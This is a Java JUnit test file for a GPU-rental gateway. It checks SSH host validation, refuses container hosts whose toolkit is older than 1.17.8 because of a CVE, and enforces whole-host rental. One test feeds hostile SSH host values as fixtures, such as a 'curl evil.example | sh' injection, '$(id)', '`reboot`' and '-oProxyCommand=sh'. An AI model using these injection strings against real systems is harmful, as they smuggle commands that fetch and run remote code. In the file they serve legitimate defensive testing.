package io.gpurental.gateway.fleet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gpurental.gateway.testing.ApiClient;
import io.gpurental.gateway.testing.FakeAgent;
import io.gpurental.gateway.testing.GatewayTest;
import io.gpurental.gateway.testing.SignedIn;
import io.gpurental.gateway.testing.TestGateway;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.sqlclient.Row;
import java.net.http.HttpResponse;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Fleet III, the gateway's side of runtimes: the SSH host an agent reports goes into a renter's
 * terminal only when it is a DNS name or an IP; a container host with a toolkit older than 1.17.8
 * (or none known) is not activated; a process host is rented only whole.
 */
@GatewayTest(settings = "GATEWAY_RESERVATIONS_SCHEDULER_INTERVAL_MS=200")
class ContainerHostsTest {
  private static final JsonObject PRICE = new JsonObject().put("price_per_gpu_hour",
      new JsonObject().put("amount", 250).put("currency", "usd"));

  @Test
  void anAgentCannotPutShellSyntaxOrAWildcardIntoTheRenterssshCommand(TestGateway node,
      @SignedIn("operator") ApiClient operator, @SignedIn("hugo") ApiClient renter) {
    FakeAgent agent = host(node, operator, "container", "1.17.8", 4);
    activate(operator, agent);
    GuaranteeBookings.Booked booked = GuaranteeBookings.provisioning(node, agent, operator, renter);

    for (String hostile : List.of("203.0.113.7; curl evil.example | sh", "*", "$(id)", "gpu 07", "`reboot`",
        "a.example -oProxyCommand=sh", "[::1]", "999.1.2.3", "-oProxyCommand=x")) {
      JsonObject report = FakeAgent.running(booked.user(), 22017);
      report.getJsonObject("ssh").put("host", hostile);
      HttpResponse<String> refused = agent.report(booked.id(), report);
      assertEquals(400, refused.statusCode(), hostile + ": " + refused.body());
      assertEquals("#/ssh/host", new JsonObject(refused.body()).getJsonArray("errors").getJsonObject(0)
          .getString("pointer"), refused.body());
    }
    Row stored = node.sql("SELECT state, ssh_host FROM instances WHERE reservation_id = '" + booked.id() + "'")
        .iterator().next();
    assertNull(stored.getString("ssh_host"), "nothing of a refused report is stored");
    JsonObject provisioning = renter.json("/api/v1/reservations/" + booked.id());
    assertEquals("provisioning", provisioning.getString("status"));
    assertNull(provisioning.getJsonObject("ssh").getString("command"));

    JsonObject named = FakeAgent.running(booked.user(), 22017);
    named.getJsonObject("ssh").put("host", "gpu-07.dc1.example.net");
    assertEquals(204, agent.report(booked.id(), named).statusCode());
    JsonObject ssh = renter.awaitStatus(booked.id(), "running").getJsonObject("ssh");
    assertEquals("ssh -p 22017 " + booked.user() + "@gpu-07.dc1.example.net", ssh.getString("command"));
    assertEquals("[gpu-07.dc1.example.net]:22017 " + FakeAgent.HOST_KEY, ssh.getString("known_hosts"));

    // a row stored before the check (or by anything else) never reaches the command or known_hosts
    node.sql("UPDATE reservations SET ssh_endpoint = '" + booked.user() + "@*:22017', ssh_known_hosts = NULL"
        + " WHERE id = '" + booked.id() + "'");
    JsonObject wildcard = renter.json("/api/v1/reservations/" + booked.id()).getJsonObject("ssh");
    assertNull(wildcard.getString("command"), wildcard.encode());
    assertNull(wildcard.getString("endpoint"), wildcard.encode());
    assertFalse(wildcard.encode().contains("@*"), wildcard.encode());
  }

  @Test
  void ipLiteralsAreValidSshHosts() {
    for (String ok : List.of("203.0.113.7", "2001:db8::7", "::1", "localhost", "gpu-07", "a-b.c-d.example")) {
      assertTrue(SshHosts.valid(ok), ok);
    }
    for (String bad : List.of("", "*", "*.example.com", "a..b", "-a.example", "a-.example", "1.2.3", "1.2.3.256",
        "fe80::1%eth0", "a b", "a;b", "a|b", "a&b", "a$b", "a\nb", "203.0.113.7:22")) {
      assertFalse(SshHosts.valid(bad), bad);
    }
  }

  @Test
  void aContainerHostWithAToolkitOlderThan1178OrNoneIsNotActivated(TestGateway node,
      @SignedIn("operator") ApiClient operator) {
    FakeAgent old = host(node, operator, "container", "1.17.7", 2);
    HttpResponse<String> refused = operator.post("/api/v1/operator/hosts/" + old.hostId() + "/activate", PRICE);
    assertEquals(409, refused.statusCode(), refused.body());
    JsonObject problem = new JsonObject(refused.body());
    assertTrue(problem.getString("detail").contains("CVE-2025-23266"), refused.body());
    assertEquals("1.17.7", problem.getString("container_toolkit_version"));
    assertEquals("pending", operator.json("/api/v1/operator/hosts/" + old.hostId()).getString("status"));
    Row facts = node.sql("SELECT runtime, container_toolkit_version, engine FROM host_facts WHERE host_id = '"
        + old.hostId() + "'").iterator().next();
    assertEquals("container", facts.getString("runtime"));
    assertEquals("1.17.7", facts.getString("container_toolkit_version"));
    assertEquals("podman 4.3.1", facts.getString("engine"));

    FakeAgent unknown = host(node, operator, "container", null, 2);
    HttpResponse<String> noToolkit = operator.post("/api/v1/operator/hosts/" + unknown.hostId() + "/activate", PRICE);
    assertEquals(409, noToolkit.statusCode(), noToolkit.body());
    assertTrue(noToolkit.body().contains("CVE-2025-23266"), noToolkit.body());

    for (String version : List.of("1.17.8", "1.17.10", "1.18.0", "v2.0.0")) {
      FakeAgent safe = host(node, operator, "container", version, 2);
      activate(operator, safe);
    }
    // the simulated runtime (the sandbox's) uses no toolkit
    activate(operator, host(node, operator, "simulated", null, 2));
  }

  @Test
  void aProcessHostIsRentedOnlyWholeAndItsOfferSaysSo(TestGateway node, @SignedIn("operator") ApiClient operator,
      @SignedIn("ines") ApiClient renter, @SignedIn("jon") ApiClient other) {
    FakeAgent agent = host(node, operator, "process", null, 4);
    HttpResponse<String> partial = operator.post("/api/v1/operator/hosts/" + agent.hostId() + "/activate",
        PRICE.copy().put("gpu_counts", new JsonArray().add(1).add(4)));
    assertEquals(400, partial.statusCode(), partial.body());
    assertTrue(partial.body().contains("#/gpu_counts"), partial.body());

    String offerId = activate(operator, agent);
    JsonObject offer = renter.json("/api/v1/offers/" + offerId);
    assertEquals("whole_host", offer.getString("isolation"));
    assertEquals(new JsonArray().add(4), offer.getJsonArray("gpu_counts"));
    Row stored = node.sql("SELECT gpu_counts, isolation FROM offers WHERE id = '" + offerId + "'").iterator().next();
    assertEquals("whole_host", stored.getString("isolation"));
    assertEquals(List.of(4), List.of(stored.getArrayOfIntegers("gpu_counts")));

    HttpResponse<String> one = renter.post("/api/v1/quotes", new JsonObject().put("offer_id", offerId)
        .put("gpu_count", 1).put("hours", 1), null);
    assertEquals(400, one.statusCode(), one.body());
    assertTrue(one.body().contains("#/gpu_count"), one.body());

    renter.reserve(offerId, 4, null, 2, "checkout");
    HttpResponse<String> second = other.post("/api/v1/reservations",
        ApiClient.reservationRequest(offerId, 4, null, 1, "checkout"));
    assertEquals(409, second.statusCode(), "one renter at a time: " + second.body());

    FakeAgent shared = host(node, operator, "container", "1.17.8", 4);
    assertEquals("container", renter.json("/api/v1/offers/" + activate(operator, shared)).getString("isolation"));
  }

  /** A host enrolled by a fake agent reporting this runtime and toolkit, one heartbeat in, pending. */
  /**
   * What the container runtime cannot promise reaches the operator in the host's facts: Docker
   * without user namespaces at enrolment, and the disk limit a heartbeat reports once the first
   * container learnt it (the enrolment's facts are replaced, a heartbeat without them keeps them).
   */
  @Test
  void theOperatorSeesWhatTheContainerRuntimeCannotPromise(TestGateway node, @SignedIn("operator") ApiClient operator) {
    String noUserns = "Docker runs without user namespaces (no userns-remap): a renter's root in a container is root"
        + " on this host. The agent was started with --allow-docker-without-userns.";
    JsonObject atEnrolment = new JsonObject().put("user_namespaces", false).putNull("disk_limit")
        .put("warnings", new JsonArray().add(noUserns));
    JsonObject facts = FakeAgent.facts("NVIDIA H100 80GB HBM3", 2).put("runtime", "container")
        .put("container_toolkit_version", "1.17.8").put("engine", "docker 27.1.0")
        .put("container_isolation", atEnrolment);
    FakeAgent agent = FakeAgent.enrol(node, FakeAgent.createHost(operator).getString("enrollment_token"), facts);
    assertEquals(atEnrolment, isolationOf(operator, agent));

    JsonObject learnt = atEnrolment.copy().put("disk_limit", false).put("warnings", new JsonArray().add(noUserns)
        .add("The engine's storage driver cannot limit a container's disk (overlay needs xfs with pquota):"
            + " instances run without a disk limit."));
    HttpResponse<String> beat = agent.send("POST", "/api/v1/agent/heartbeat", new JsonObject()
        .put("agent_version", "0.2.0").put("telemetry", new JsonObject().put("disk_free_gb", 3100.5))
        .put("container_isolation", learnt));
    assertEquals(200, beat.statusCode(), beat.body());
    assertEquals(learnt, isolationOf(operator, agent));
    assertEquals(200, agent.heartbeat().statusCode());
    assertEquals(learnt, isolationOf(operator, agent), "a heartbeat without them keeps them");
    HttpResponse<String> bad = agent.send("POST", "/api/v1/agent/heartbeat", new JsonObject()
        .put("agent_version", "0.2.0").put("container_isolation", new JsonObject().put("user_namespaces", "no")));
    assertEquals(400, bad.statusCode(), bad.body());
  }

  private static JsonObject isolationOf(ApiClient operator, FakeAgent agent) {
    return operator.json("/api/v1/operator/hosts/" + agent.hostId()).getJsonObject("facts")
        .getJsonObject("container_isolation");
  }

  private static FakeAgent host(TestGateway node, ApiClient operator, String runtime, String toolkit, int gpus) {
    JsonObject facts = FakeAgent.facts("NVIDIA H100 80GB HBM3", gpus).put("runtime", runtime)
        .put("container_toolkit_version", toolkit).put("engine", "container".equals(runtime) ? "podman 4.3.1" : null);
    FakeAgent agent = FakeAgent.enrol(node, FakeAgent.createHost(operator).getString("enrollment_token"), facts);
    assertEquals(200, agent.heartbeat().statusCode());
    return agent;
  }

  /** Activates at 2.50 $ per GPU-hour; answers the offer id. */
  private static String activate(ApiClient operator, FakeAgent agent) {
    HttpResponse<String> activated = operator.post("/api/v1/operator/hosts/" + agent.hostId() + "/activate", PRICE);
    assertEquals(200, activated.statusCode(), activated.body());
    return new JsonObject(activated.body()).getJsonArray("offers").getString(0);
  }
}
